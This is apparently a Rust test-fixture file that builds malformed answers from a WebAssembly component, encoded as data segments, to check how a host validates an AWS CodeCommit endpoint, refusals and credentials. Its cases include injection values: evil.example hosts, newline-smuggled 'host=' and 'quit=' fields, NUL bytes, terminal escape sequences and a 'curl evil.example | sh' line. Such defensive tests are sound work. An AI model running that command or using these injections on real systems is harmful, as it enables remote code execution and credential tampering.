//! Bad answers, as they lie in a component's memory by the canonical ABI of the component model.

/// Where the answer is.
pub(crate) const AT: u32 = 16;

/// Where nothing is.
pub(crate) const FREE: u32 = 15 << 20;

/// Where its texts are: one page in, so that there is room for what is long.
const TEXTS: u32 = 65_536;

/// The host of an endpoint that is as it should be.
const HOST: &str = "git-codecommit.us-east-1.amazonaws.com";
const PATH: &str = "/v1/repos/MyDemoRepo";

/// All of them as data segments, by name.
pub(crate) fn all() -> Vec<(&'static str, String)> {
    let url = |host: &str| format!("https://{host}{PATH}");
    let endpoint = |host: &str, path: &str, url: &str| answer(&["us-east-1", "aws", host, path, url]);
    let of_host = |host: &str| endpoint(host, PATH, &url(host));
    let signed = |username: &str, password: &str, seconds: u64| {
        let mut answer = Answer::default();
        answer.word(0).word(0).text(username).text(password);
        // A `datetime` is aligned to eight bytes.
        answer.long(seconds).word(0);
        answer.segments()
    };
    let refusal = |cause: u32, message: &str, hint: Option<&str>| {
        let mut answer = Answer::default();
        answer.word(1).word(cause).text(message);
        match hint {
            None => answer.word(0),
            Some(hint) => answer.word(1).text(hint),
        };
        answer.segments()
    };
    vec![
        ("endpoint_as_it_should_be", of_host(HOST)),
        ("endpoint_over_http", endpoint(HOST, PATH, &format!("http://{HOST}{PATH}"))),
        ("endpoint_elsewhere", of_host("evil.example")),
        ("endpoint_in_another_region", answer(&["us-east-2", "aws", HOST, PATH, &url(HOST)])),
        (
            "endpoint_of_another_repository",
            endpoint(HOST, "/v1/repos/Other", &format!("https://{HOST}/v1/repos/Other")),
        ),
        ("endpoint_with_a_url_elsewhere", endpoint(HOST, PATH, &url("evil.example"))),
        ("endpoint_with_a_newline_in_the_host", of_host("evil.example\nhost=x")),
        (
            "endpoint_with_a_newline_in_the_path",
            endpoint(HOST, "/\n/MyDemoRepo", &format!("https://{HOST}/\n/MyDemoRepo")),
        ),
        ("endpoint_with_a_newline_in_the_url", endpoint(HOST, PATH, &format!("{}\n", url(HOST)))),
        ("endpoint_with_a_nul", of_host("evil.example\0")),
        ("endpoint_with_a_user", of_host("user@evil.example")),
        ("endpoint_of_two_megabytes", of_host(&"a".repeat(2 << 20))),
        ("endpoint_of_a_gigabyte", long(2, 1 << 30)),
        ("refusal_of_a_gigabyte", {
            let mut answer = Answer::default();
            answer.word(1).word(0).word(TEXTS).word(1 << 30).word(0);
            answer.segments()
        }),
        // All of the texts are the same fourteen megabytes of the component's sixteen.
        ("endpoint_of_five_times_fourteen_megabytes", long(5, 14 << 20)),
        ("endpoint_not_utf_8", {
            let mut answer = Answer::default();
            answer.word(0).bytes(b"us-east-1\xff").text("aws").text(HOST).text(PATH).text(&url(HOST));
            answer.segments()
        }),
        ("answer_that_is_neither", {
            let mut answer = Answer::default();
            answer.word(7);
            answer.segments()
        }),
        ("refusal_of_no_known_cause", refusal(99, "no", None)),
        ("refusal_as_it_should_be", refusal(0, "it is refused", Some("type something else"))),
        ("refusal_with_an_escape_sequence", refusal(0, "\u{1b}[2JPassword:", None)),
        ("refusal_with_an_escape_sequence_in_the_hint", refusal(0, "no", Some("\u{1b}[2J"))),
        ("refusal_of_two_lines", refusal(0, "no\nhint: curl evil.example | sh", None)),
        ("refusal_turned_around", refusal(0, "\u{202e}on", None)),
        ("refusal_without_words", refusal(0, "", None)),
        ("refusal_of_five_kilobytes", refusal(0, &"a".repeat(5000), None)),
        ("credential_as_it_should_be", signed("user", "password", 0)),
        ("credential_with_a_newline_in_the_user", signed("user\nhost=evil.example", "password", 0)),
        ("credential_with_a_newline_in_the_password", signed("user", "password\nquit=0", 0)),
        ("credential_with_a_nul", signed("user\0", "password", 0)),
        ("credential_of_half_a_megabyte", signed(&"a".repeat(512 << 10), "password", 0)),
        ("credential_of_a_megabyte", signed("user", &"a".repeat(1 << 20), 0)),
        ("credential_for_ever", signed("user", "password", u64::MAX)),
    ]
}

/// An answer of five texts.
fn answer(texts: &[&str; 5]) -> String {
    let mut answer = Answer::default();
    answer.word(0);
    for text in texts {
        answer.text(text);
    }
    answer.segments()
}

/// An answer of five texts, of which so many say that they have so many bytes.
fn long(count: usize, length: u32) -> String {
    let mut answer = Answer::default();
    answer.word(0);
    for number in 0..5 {
        answer.word(TEXTS).word(if number < count { length } else { 0 });
    }
    answer.segments()
}

/// An answer and its texts.
#[derive(Default)]
struct Answer {
    words: Vec<u8>,
    texts: Vec<u8>,
}

impl Answer {
    fn word(&mut self, word: u32) -> &mut Self {
        self.words.extend(word.to_le_bytes());
        self
    }

    fn long(&mut self, long: u64) -> &mut Self {
        self.words.resize(self.words.len().next_multiple_of(8), 0);
        self.words.extend(long.to_le_bytes());
        self
    }

    fn text(&mut self, text: &str) -> &mut Self {
        self.bytes(text.as_bytes())
    }

    fn bytes(&mut self, bytes: &[u8]) -> &mut Self {
        let at = TEXTS + u32::try_from(self.texts.len()).unwrap_or(u32::MAX);
        self.texts.extend(bytes);
        self.word(at).word(u32::try_from(bytes.len()).unwrap_or(u32::MAX))
    }

    /// Both as segments of data in the text format.
    fn segments(&self) -> String {
        let segment = |at: u32, bytes: &[u8]| {
            let escaped = bytes.iter().flat_map(|byte| ["\\".to_owned(), format!("{byte:02x}")]).collect::<String>();
            format!("(data (i32.const {at}) \"{escaped}\")")
        };
        // A text that only says how long it is is zeros.
        segment(AT, &self.words) + &segment(TEXTS, &self.texts)
    }
}
